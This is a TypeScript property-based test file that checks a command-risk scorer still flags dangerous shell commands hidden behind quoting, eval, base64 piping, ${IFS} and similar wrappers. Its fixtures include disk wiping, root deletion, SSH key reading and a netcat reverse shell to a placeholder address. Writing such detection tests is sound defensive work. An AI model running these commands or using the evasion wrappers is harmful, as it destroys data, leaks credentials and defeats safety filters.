import assert from "node:assert/strict";
import fc from "fast-check";
import { assess } from "../../../src/scoring/assess.js";
import { caseInput } from "./rule-cases.js";

const DANGEROUS = ["rm -rf /", "chmod -R 777 /", "nc -e /bin/sh 203.0.113.7 4444", "shred -n 3 -z /dev/sda", "cat ~/.ssh/id_rsa"];

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const base64 = (text: string): string => Buffer.from(text).toString("base64");
/** Ways of writing a command so that the shell still runs it. */
const VARIANTS: ReadonlyArray<(command: string) => string> = [
  (command) => `bash -c ${quoted(command)}`,
  (command) => `eval ${quoted(command)}`,
  (command) => `echo ${base64(command)} | base64 -d | sh`,
  (command) => `sudo ${command}`,
  (command) => `env A=1 nohup timeout 5 ${command}`,
  (command) => `true && (${command})`,
  (command) => `f() { ${command}; }; f`,
  (command) => `sh <<'END'\n${command}\nEND`,
  (command) => `X=${quoted(command)}; $X`,
  (command) => `if true; then ${command}; fi`,
  (command) => `echo ${quoted(command)} | bash`,
  (command) => command.replace(/^(\w)(\w+)/, "$1\\$2"),
  (command) => command.replace(/^(\w)(\w+)/, '$1""$2'),
  (command) => command.replaceAll(" ", "${IFS}"),
  (command) => `python3 -c ${quoted(`import os; os.system("${command}")`)}`,
];

describe("scoring", () => {
  it("throws on no input", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: "binary" }), fc.array(fc.constantFrom("$(", "`", "'", '"', "|", ";", "rm", " ", "{", "}", "<<E\n", "/", "\\", "${x:-", ">", "sudo ", "\n"), { maxLength: 60 }).map((parts) => parts.join(""))), (text) => {
        const { score } = assess(caseInput(text));
        assert.ok(score >= 0 && score <= 100);
      }),
      { numRuns: 500 },
    );
  });

  it("throws on no arguments of a tool that is not known", () => {
    fc.assert(
      fc.property(fc.string(), fc.dictionary(fc.string(), fc.jsonValue()), (tool, args) => {
        assess({ tool, arguments: args });
      }),
      { numRuns: 200 },
    );
  });

  it("hears a dangerous command through any two layers of quoting and wrapping", () => {
    fc.assert(
      fc.property(fc.constantFrom(...DANGEROUS), fc.constantFrom(...VARIANTS), fc.constantFrom(...[0, 1, 2, 5, 9, 10].map((index) => VARIANTS[index]!)), (command, inner, outer) => {
        const text = outer(inner(command));
        assert.notEqual(assess(caseInput(text)).level, "none", text);
        assert.notEqual(assess(caseInput(text)).level, "low", text);
      }),
      { numRuns: 300 },
    );
  });
});
